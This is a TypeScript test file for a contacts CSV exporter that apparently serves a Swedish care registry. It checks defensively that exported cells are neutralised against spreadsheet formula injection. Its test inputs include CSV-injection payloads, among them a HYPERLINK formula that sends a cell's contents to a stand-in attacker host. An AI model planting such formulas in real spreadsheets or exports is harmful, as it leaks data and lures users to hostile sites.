import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { contactsToCsv, parseContactsCsv, type Contact } from '../../src/contacts/index.js';
import { runBin } from '../support/cli.js';
import { temporaryDataDir } from '../support/server.js';

// What a spreadsheet takes for the start of a formula (OWASP, "CSV injection").
const FORMULA_START = /^[=+\-@\t\r\n]/u;

/** Every cell of a CSV as a spreadsheet reads it: no trimming, no unescaping. */
function rawCells(csv: string): string[][] {
  return parse(csv, { bom: true, delimiter: ';', relax_column_count: true }) as string[][];
}

function contact(values: { municipality?: string; provider?: string; orgNumber?: string; name?: string; email?: string }): Contact {
  return {
    id: 'c-1',
    municipality: values.municipality ?? 'goteborg',
    provider: { name: values.provider ?? 'Omsorg AB', orgNumber: values.orgNumber ?? '556036-0793' },
    name: values.name ?? 'Anna Andersson',
    email: values.email ?? 'anna@omsorg.se',
    phone: '+46701234567',
    language: 'sv',
    identities: [],
    active: true,
    createdAt: '2026-01-01T00:00:00.000Z',
    updatedAt: '2026-01-01T00:00:00.000Z',
  };
}

// Short strings built mostly from the characters that matter here, and any others now and then.
const tricky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ';', ',', ' ', 'a', 'å', '1');
const cellValue = fc
  .array(fc.oneof(tricky, fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), { maxLength: 10 })
  .map((parts) => parts.join(''))
  // The import trims each cell, as the registry does each value, so only trimmed values are stored.
  .filter((value) => value === value.trim());

describe('contacts export never hands a spreadsheet a formula', () => {
  it('no exported cell starts with =, +, -, @, tab or a line break, and import gives back exactly what was exported', () => {
    fc.assert(
      fc.property(fc.record({ municipality: cellValue, provider: cellValue, orgNumber: cellValue, name: cellValue, email: cellValue }), (values) => {
        const csv = contactsToCsv([contact(values)]);
        for (const cell of rawCells(csv).slice(1).flat()) expect(cell).not.toMatch(FORMULA_START);
        const [row] = parseContactsCsv(csv);
        expect(row!.values).toEqual({ municipality: values.municipality, providerName: values.provider, orgNumber: values.orgNumber, name: values.name, email: values.email, phone: '070-123 45 67', language: 'sv' });
      }),
      { numRuns: 2_000 },
    );
  });

  it.each([
    ['=HYPERLINK("http://angripare.example/","Klicka")', `'=HYPERLINK("http://angripare.example/","Klicka")`],
    ['+46 70 123 45 67', "'+46 70 123 45 67"],
    ['-', "'-"],
    ['@SUM(1)', "'@SUM(1)"],
    ["'=1+1", "''=1+1"],
    ["O'Brien", "O'Brien"],
    ["'t Hooft", "'t Hooft"],
    // Not a formula, but the import also splits on commas: it must come back whole.
    ['Andersson, Anna', 'Andersson, Anna'],
  ])('writes %j as %j and reads it back', (value, cell) => {
    const csv = contactsToCsv([contact({ name: value })]);
    expect(rawCells(csv)[1]![3]).toBe(cell);
    expect(parseContactsCsv(csv)[0]!.values.name).toBe(value);
  });

  it('takes the apostrophe that Excel users type before a phone number as theirs, not as part of the number', () => {
    const [row] = parseContactsCsv(['kommun;utförare;organisationsnummer;namn;e-post;telefon', "goteborg;Omsorg AB;556036-0793;Anna;anna@omsorg.se;'+46 70 123 45 67"].join('\n'));
    expect(row!.values.phone).toBe('+46 70 123 45 67');
  });

  it('through the real CLI: hostile names from a registration and an import are exported inert and import back unchanged', { timeout: 120_000 }, async () => {
    const dataDir = await temporaryDataDir();
    const env = { DATA_DIR: dataDir };
    // A guest registers in the terminal chat with a formula for a name; staff approve.
    const answers = ['registrera', 'Göteborg', '@Omsorg i Väst AB', '556036-0793', '=HYPERLINK("http://angripare.example/?"&A1,"Klicka")', 'anna@omsorgivast.se', '070-123 45 67', 'avsluta', ''];
    expect((await runBin(['chat'], { env, input: answers.join('\n') })).code).toBe(0);
    const [pending] = JSON.parse((await runBin(['registrations', 'list', '--status', 'pending', '--json'], { env })).stdout) as Array<{ id: string }>;
    expect((await runBin(['registrations', 'approve', pending!.id], { env })).code).toBe(0);
    // And an import brings in a provider that starts with a minus and an email with a plus.
    const importFile = join(dataDir, 'in.csv');
    await writeFile(importFile, ['kommun;utförare;organisationsnummer;namn;e-post;telefon', 'orebro;-Hem AB;5566778899;+Cia Carlsson;+cia@hem.se;019-12 34 56'].join('\n'));
    expect((await runBin(['contacts', 'import', importFile], { env })).code).toBe(0);
    const before = JSON.parse((await runBin(['contacts', 'list', '--json'], { env })).stdout) as Array<Record<string, unknown>>;
    expect(before.map((entry) => [entry.name, (entry.provider as { name: string }).name, entry.email])).toEqual([
      ['=HYPERLINK("http://angripare.example/?"&A1,"Klicka")', '@Omsorg i Väst AB', 'anna@omsorgivast.se'],
      ['+Cia Carlsson', '-Hem AB', '+cia@hem.se'],
    ]);

    const exportFile = join(dataDir, 'ut.csv');
    expect((await runBin(['contacts', 'export', '--output', exportFile], { env })).code).toBe(0);
    const cells = rawCells(await readFile(exportFile, 'utf8'));
    expect(cells.slice(1).map((row) => [row[1], row[3], row[4]])).toEqual([
      ["'@Omsorg i Väst AB", `'=HYPERLINK("http://angripare.example/?"&A1,"Klicka")`, 'anna@omsorgivast.se'],
      ["'-Hem AB", "'+Cia Carlsson", "'+cia@hem.se"],
    ]);
    for (const cell of cells.slice(1).flat()) expect(cell).not.toMatch(FORMULA_START);

    const again = await runBin(['contacts', 'import', exportFile, '--json'], { env });
    expect(JSON.parse(again.stdout)).toMatchObject({ applied: true, created: 0, updated: 0, unchanged: 2, invalid: [] });
    expect(JSON.parse((await runBin(['contacts', 'list', '--json'], { env })).stdout)).toEqual(before);
  });
});
